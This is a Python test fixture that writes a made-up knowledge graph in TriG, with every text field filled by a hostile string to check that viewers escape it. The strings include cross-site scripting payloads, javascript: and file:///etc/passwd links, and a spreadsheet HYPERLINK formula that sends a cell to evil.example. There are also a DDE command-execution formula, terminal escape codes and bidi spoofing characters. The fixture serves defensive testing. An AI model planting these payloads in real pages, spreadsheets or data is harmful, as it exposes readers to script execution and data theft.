"""A made-up graph whose every text is an attack on whoever prints, opens or draws it."""

from pathlib import Path
from string import ascii_letters, digits

from alliancekg.terms import PREFIXES

_LONG = "long " * 2000

#: What a file of somebody else may hold wherever there is text, by what it attacks.
TEXTS = {
    "script": "<script>window.pwned = 1; alert(1)</script>",
    "end of a script": "</script><script>window.pwned = 1</script>",
    "image that fails": "<img src=x onerror='window.pwned = 1'>",
    "frame": '"><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "quotes": "\" onmouseover=\"pwned = 1\" ' onfocus='pwned = 1' ` ${window.pwned = 1} `",
    "entities": "&lt;script&gt;pwned = 1&lt;/script&gt;&#0;&bogus;",
    "comment": "<!-- <script> -->",
    "start of a comment": "<!--",
    "end of character data": "]]>",
    "template": "{{ 7 * 7 }}{% raw %}{# #}%s %(name)s {0}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "address that runs": "javascript:window.pwned=1",
    "right to left": "\u202egnp.exe\u202c \u2066inner\u2069 \u200f\u061c",
    "zero width": "zero\u200bwidth\u200d\u2060\ufeff\u00ad",
    "tags": "tag" + "".join(chr(0xE0000 + ord(sign)) for sign in "ged") + "\U000e007f",
    "zero": "before\0after",
    "control signs": "".join(map(chr, (*range(1, 32), *range(0x7F, 0xA0)))),
    "no characters": "non\ufffe\uffff\ufdd0characters",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b[31m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a line end": "\n=1+1",
    "formula in full width": "\uff1d1+1",
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x85seven",
    "separators": "a,b;c\td|e\x1ff\x1eg",
    "long": _LONG,
    "long word": "w" * 10_000,
}
#: Addresses that a link must not lead to.
ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "data:text/html,%3Cscript%3Epwned=1%3C/script%3E",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://evil.example/'onmouseover='pwned=1",
)
#: Names of things that an IRI may spell.
IRIS = (
    "javascript:window.pwned=1",
    "data:text/html,%3Cscript%3Epwned=1%3C/script%3E",
    "https://evil.example/'onclick='pwned=1",
    "https://evil.example/\u202egnp\u200b",
    "urn:x:$%7Bpwned=1%7D()",
)
_PLAIN = ascii_letters + digits + " "


def literal(text: str) -> str:
    """Return a literal of TriG or SPARQL in which every sign but letters and digits is an escape."""
    return '"' + "".join(sign if sign in _PLAIN else f"\\U{ord(sign):08X}" for sign in text) + '"'


def write(path: Path) -> Path:
    """Write the graph: for each text a source, a passage, a state, a pact, a party, a signing and a note."""
    prefixes = "".join(f"@prefix {name}: <{iri}> .\n" for name, iri in PREFIXES.items())
    numbered = list(enumerate(TEXTS.values()))
    registry = "\n".join(_entry(at, text) for at, text in numbered)
    things = "\n".join(
        f'<{iri}> a akg:State ; skos:prefLabel "Thing {at}"@en .' for at, iri in enumerate(IRIS)
    )
    sources = "\n".join(_source(at, text) for at, text in numbered)
    notes = "\n".join(_note(at, text) for at, text in numbered)
    path.write_text(
        f"{prefixes}akd:registry {{ {registry} {things} }}\n{sources}\nakd:conflicts {{ {notes} }}\n",
        encoding="utf-8",
    )
    return path


def _entry(at: int, text: str) -> str:
    """Return what the registry has for one text."""
    names = f"skos:prefLabel {literal(text)}@en ; skos:altLabel {literal(text + ' too')}@en"
    return f"""
        akd:state_{at} a akg:State ; {names} .
        akd:agreement_{at} a akg:Agreement ; {names} .
        akd:part_{at} a akg:Participation ; {names} .
        akd:event_{at} a akg:AgreementEvent ; {names} ; skos:editorialNote {literal(text)}@en ."""


def _source(at: int, text: str) -> str:
    """Return one source, its passage, and what the passage says."""
    told = literal(text)
    thing = IRIS[at % len(IRIS)]
    return f"""
    aks:h-{at} {{
        aks:h-{at} a akg:Source ; dcterms:title {told}@en ; dcterms:publisher {told} ;
            akg:originalPublisher {told} ; dcterms:issued "2024-02"^^xsd:gYearMonth ;
            schema:url <{ADDRESSES[at % len(ADDRESSES)]}> .
        aks:h-{at}_p1 a akg:Passage ; akg:passageOf aks:h-{at} ; akg:locator {told} ; akg:gist {told}@en ;
            skos:editorialNote {told}@en ; akg:assertionMode akv:mode_reported .
    }}
    aks:h-{at}_p1 {{
        akd:part_{at} akg:participant akd:state_{at}, <{thing}> ; akg:participationIn akd:agreement_{at} ;
            akg:role akv:role_party ; akg:condition {told}@en .
        akd:event_{at} akg:changes akd:agreement_{at} ; akg:eventKind akv:event-kind_signature ;
            akg:date "2023-08"^^xsd:gYearMonth ; akg:aim {told}@en .
    }}"""


def _note(at: int, text: str) -> str:
    """Return a conflict note whose words are the text."""
    return f"""
        akd:conflict_{at} a akg:Conflict ; akg:conflictOn akd:agreement_{at} ; akg:gist {literal(text)}@en ;
            akg:conflictProperty akg:legalForce ; akg:conflictBetween aks:h-{at}_p1 ."""
